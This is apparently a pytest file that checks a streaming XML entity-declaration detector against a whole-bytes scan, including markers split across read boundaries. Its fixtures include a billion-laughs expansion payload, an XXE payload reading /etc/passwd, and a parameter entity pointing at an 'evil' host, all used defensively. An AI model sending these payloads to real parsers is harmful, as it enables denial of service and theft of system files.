"""``stream_declares_entities`` (chunked scan of a spooled file) agrees with ``declares_entities``
(scan of the whole bytes), above all when a marker straddles the boundary between two reads."""

from __future__ import annotations

import inspect
import io
import tempfile

import pytest

from harvester.sources import safe_xml
from harvester.sources.safe_xml import declares_entities, stream_declares_entities

DOCTYPE, ENTITY = b"<!DOCTYPE", b"<!ENTITY"
#: The function's own read size (its default argument), so the default path is tested at its boundary.
DEFAULT_CHUNK: int = inspect.signature(stream_declares_entities).parameters["chunk_size"].default

BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                  b' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n]>\n<lolz>&lol2;</lolz>\n')
XXE = (b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
       b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&xxe;</rdf:RDF>\n')


def both(data: bytes, chunk_size: int) -> tuple[bool, bool]:
    """(byte-level answer, streamed answer) for ``data``; also checks the stream is left at 0."""
    stream = io.BytesIO(data)
    stream.seek(len(data) // 2)  # the function must not depend on where the stream was
    streamed = stream_declares_entities(stream, chunk_size=chunk_size)
    assert stream.tell() == 0
    return declares_entities(data), streamed


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_attacks_are_detected_whole(doc: bytes) -> None:
    assert both(doc, DEFAULT_CHUNK) == (True, True)


@pytest.mark.parametrize("marker", ["doctype", "entity"])
@pytest.mark.parametrize("chunk_size", [1, 2, 3, 5, 7, 8, 9, 10, 16, 64])
def test_marker_straddling_every_boundary_offset(marker: str, chunk_size: int) -> None:
    """Place the marker so that every one of its bytes, in turn, is the first byte of a new read."""
    attack = XXE if marker == "entity" else BILLION_LAUGHS
    needle = ENTITY if marker == "entity" else DOCTYPE
    head, tail = attack.split(b"\n", 1)
    head += b"\n"  # a comment after the XML declaration moves everything behind it
    for split in range(1, len(needle)):  # the read boundary falls after ``split`` bytes of the marker
        fill = (-(len(head) + 7 + tail.index(needle) + split)) % chunk_size
        doc = head + b"<!--" + b"p" * fill + b"-->" + tail
        start = doc.index(needle)
        assert (start + split) % chunk_size == 0
        assert both(doc, chunk_size) == (True, True), (chunk_size, split)


@pytest.mark.parametrize(("needle", "split"), [(n, s) for n in (DOCTYPE, ENTITY) for s in range(1, len(n))])
def test_marker_straddling_the_default_boundary(needle: bytes, split: int) -> None:
    """A dump bigger than one default read, with the marker cut by the function's own chunk size."""
    if needle == DOCTYPE:
        # a huge comment before the DOCTYPE moves it to the boundary; the ENTITY follows it
        prefix_len = DEFAULT_CHUNK - split
        lead = b'<?xml version="1.0"?>\n<!--'
        doc = lead + b"x" * (prefix_len - len(lead) - 3) + b"-->" + XXE.split(b"\n", 1)[1]
    else:
        # the DOCTYPE is at the start; an internal subset padded with a comment pushes the ENTITY across
        lead = b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ <!--'
        prefix_len = DEFAULT_CHUNK - split
        doc = (lead + b"x" * (prefix_len - len(lead) - 4) + b"--> " + b'<!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
               b"<rdf:RDF/>\n")
    assert doc.index(needle) == DEFAULT_CHUNK - split
    with tempfile.TemporaryFile() as spool:
        spool.write(doc)
        spool.seek(0)
        assert stream_declares_entities(spool) is True
        assert spool.tell() == 0
    assert declares_entities(doc) is True


def test_entity_before_the_doctype_across_a_boundary_is_not_a_declaration() -> None:
    """``<!ENTITY`` only counts after a ``<!DOCTYPE``, even when the DOCTYPE is in a later read."""
    doc = b'<?xml version="1.0"?>\n<!-- see <!ENTITY in the spec -->\n<!DOCTYPE root SYSTEM "r.dtd">\n<root/>\n'
    for chunk_size in (1, 3, 8, 9, 17, 40, DEFAULT_CHUNK):
        assert both(doc, chunk_size) == (False, False)


# Documents where the byte check and the stream check must agree; False ones must never be refused.
AGREEMENT: dict[str, tuple[bytes, bool]] = {
    "word ENTITY in text": (b'<?xml version="1.0"?>\n<!DOCTYPE fgdc SYSTEM "fgdc.dtd">\n'
                            b"<metadata><abstract>ENTITY relationship model; ENTITY !ENTITY</abstract></metadata>",
                            False),
    "word ENTITY in a comment": (b'<!DOCTYPE x SYSTEM "x.dtd">\n<!-- ENTITY declarations are not used -->\n<x/>',
                                 False),
    "escaped declaration in text": (b'<!DOCTYPE x SYSTEM "x.dtd"><x>&lt;!ENTITY foo "bar"&gt;</x>', False),
    "lowercase marker": (b'<!DOCTYPE x [ <!entity foo "bar"> ]><x/>', False),
    "no DOCTYPE, declaration in CDATA": (b'<x><![CDATA[<!ENTITY foo "bar">]]></x>', False),
    "no DOCTYPE at all": (b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/>", False),
    "DOCTYPE without entities": (b'<!DOCTYPE metadata SYSTEM "http://www.fgdc.gov/metadata/fgdc-std-001-1998.dtd">'
                                 b"<metadata/>", False),
    "partial markers": (b"<!DOCTYP <!DOCTYPEx <!ENTIT <!ENTITx>", False),
    "DOCTYPE marker split by a space": (b"<!DOC TYPE x [ <!ENTITY a 'b'> ]>", False),
    "empty document": (b"", False),
    "only a DOCTYPE marker": (b"<!DOCTYPE", False),
    "only an ENTITY marker": (b"<!ENTITY", False),
    "markers back to back": (b"<!DOCTYPE<!ENTITY", True),
    "DOCTYPE repeated then entity": (b"<!DOCTYPE a><!DOCTYPE b [<!ENTITY c 'd'>]><a/>", True),
    "declaration inside a comment after a DOCTYPE": (b'<!DOCTYPE x SYSTEM "x.dtd"><!-- <!ENTITY a "b"> --><x/>',
                                                     True),  # the byte check is deliberately coarse
    "parameter entity": (b'<!DOCTYPE x [ <!ENTITY % p SYSTEM "http://evil/p.dtd"> %p; ]><x/>', True),
    "billion laughs": (BILLION_LAUGHS, True),
    "xxe": (XXE, True),
    "utf-16 LE with BOM": ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
                           .encode("utf-16"), True),
    "utf-16 BE with BOM, no entities": (b"\xfe\xff" + '<!DOCTYPE x SYSTEM "x.dtd"><x>ENTITY</x>'.encode("utf-16-be"),
                                        False),
    "utf-16 BE with BOM, entity": (b"\xfe\xff" + '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16-be"), True),
}


@pytest.mark.parametrize("name", sorted(AGREEMENT))
@pytest.mark.parametrize("chunk_size", [1, 2, 7, 8, 9, 13, DEFAULT_CHUNK])
def test_stream_and_bytes_agree(name: str, chunk_size: int) -> None:
    data, expected = AGREEMENT[name]
    assert both(data, chunk_size) == (expected, expected)


def test_stream_and_bytes_agree_on_every_cut_of_a_mixed_document() -> None:
    """Exhaustive: for every read size up to the document length, the two answers match."""
    doc = (b'<?xml version="1.0"?><!-- <!ENTITY early --><!-- ENTITY --><!DOCTYPE r SYSTEM "r.dtd">'
           b'<r>ENTITY &lt;!ENTITY</r><!-- <!DOCTYP --><!-- <!ENTITY late -->')
    without_late = doc.replace(b"<!-- <!ENTITY late -->", b"")
    for chunk_size in range(1, len(doc) + 2):
        assert both(doc, chunk_size) == (True, True), chunk_size
        assert both(without_late, chunk_size) == (False, False), chunk_size


def test_parse_xml_and_the_stream_check_refuse_the_same_attacks() -> None:
    for data in (BILLION_LAUGHS, XXE):
        with pytest.raises(safe_xml.UnsafeXml):
            safe_xml.parse_xml(data, what="test")
        assert stream_declares_entities(io.BytesIO(data), chunk_size=4) is True
